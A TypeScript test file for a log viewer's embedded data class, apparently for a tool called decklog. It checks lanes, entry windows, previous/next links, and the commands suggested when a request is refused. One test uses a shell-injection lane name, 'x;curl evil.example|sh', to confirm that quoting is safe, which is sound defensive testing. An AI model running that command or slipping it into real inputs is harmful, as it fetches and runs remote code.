import assert from "node:assert/strict";
import { test } from "node:test";
import { Embedded, type FileData } from "../src/embedded.ts";
import { NO_FILTERS } from "../src/url.ts";
// @ts-expect-error: plain JavaScript
import { makeLog } from "../dev/log.mjs";
// @ts-expect-error: plain JavaScript
import { Api, fileData } from "../dev/api.mjs";

const log = makeLog({ now: Date.parse("2026-11-25T03:00:00Z") });
const api = new Api(log);
api.now = () => log.now;
const served = JSON.parse(JSON.stringify(fileData(api))) as FileData;
const file = new Embedded(served);
const ALL = { since: "", until: "" };

test("the file gives the answers that it was given", async () => {
  const lanes = await file.lanes(ALL, NO_FILTERS);
  assert.deepEqual(lanes, served.answers["lanes"]);
  assert.deepEqual(await file.histogram(ALL, 240, NO_FILTERS), served.answers["histogram"]);
  assert.deepEqual(await file.churn(), served.answers["writers"]);
  assert.deepEqual(await file.state("", NO_FILTERS), served.answers["state"]);
  assert.deepEqual(await file.changes("all", "", NO_FILTERS), served.answers["changes"]);
  const [lane] = lanes.lanes.filter((one) => one.marks.length > 0);
  const page = await file.object(lane!, "");
  assert.equal(page.lane.id, lane!.id);
  // Where the object is the same, so is the answer.
  assert.equal(await file.object(lane!, String(page.at)), page);
});

test("the log has the entries of its window", async () => {
  const all = (await file.entries(ALL, NO_FILTERS, null)).entries;
  const middle = all[Math.floor(all.length / 2)]!;
  const late = await file.entries({ since: middle.time, until: "" }, NO_FILTERS, null);
  assert.deepEqual(late.entries.map((one) => one.seq), all.filter((one) => one.time >= middle.time).map((one) => one.seq));
  // Counted back from the end of the file.
  const end = Date.parse((await file.overview()).now);
  const recent = (await file.entries({ since: "2h", until: "" }, NO_FILTERS, null)).entries.map((one) => one.seq);
  assert.deepEqual(recent, all.filter((one) => Date.parse(one.time) >= end - 7_200_000).map((one) => one.seq));
  assert.ok(recent.length > 0 && recent.length < all.length, `${recent.length} of ${all.length}`);
  const before = await file.entries(ALL, NO_FILTERS, middle.seq);
  assert.equal(before.entries[0]!.seq, all[Math.floor(all.length / 2) + 1]!.seq);
});

test("an entry leads to none for which there was no room", async () => {
  const { lanes } = await file.lanes(ALL, NO_FILTERS);
  const [first, gone, last] = lanes.find((one) => one.marks.filter((mark) => mark.type !== "QUIET").length > 2)!.marks.map((mark) => mark.seq);
  const answers = { ...served.answers, [`entry/${gone}`]: { ...(served.answers[`entry/${gone}`] as object), previous: first, next: last } };
  assert.deepEqual([(await new Embedded({ answers, left_out: null }).entry(gone!)).previous, (await new Embedded({ answers, left_out: null }).entry(gone!)).next], [first, last]);
  for (const without of [first, last]) {
    const { [`entry/${without}`]: dropped, ...rest } = answers;
    assert.ok(dropped);
    const entry = await new Embedded({ answers: rest, left_out: null }).entry(gone!);
    assert.deepEqual([entry.previous, entry.next], [without === first ? null : first, without === last ? null : last]);
  }
});

test("what was not asked is refused, with the command that knows it", async () => {
  const { lanes } = await file.lanes(ALL, NO_FILTERS);
  const lane = lanes.find((one) => one.marks.length > 1)!;
  const [one, other] = lane.marks.map((mark) => mark.seq);
  await assert.rejects(file.entry(999_999), /decklog show 999999/);
  await assert.rejects(file.diff(one!, other!), new RegExp(`decklog diff .* --from ${one} --to ${other}`));
  await assert.rejects(file.object(lane, String(one)), /decklog get .* --at \d+/);
  await assert.rejects(file.object({ ...lane, name: "x;curl evil.example|sh 'y" }, ""), /decklog log '.*x;curl evil\.example\|sh '\\''y'/);
  await assert.rejects(file.state("1h", NO_FILTERS), /--at 1h/);
  await assert.rejects(file.changes("1h", "", NO_FILTERS), /decklog diff --from 1h/);
  for (const filters of [{ ...NO_FILTERS, what: ["deploy"] }, { ...NO_FILTERS, where: "true" }, { ...NO_FILTERS, type: ["DELETED"] }]) {
    await assert.rejects(file.lanes(ALL, filters), /decklog timeline makes another one/);
    await assert.rejects(file.entries(ALL, filters, null), /decklog timeline makes another one/);
  }
});
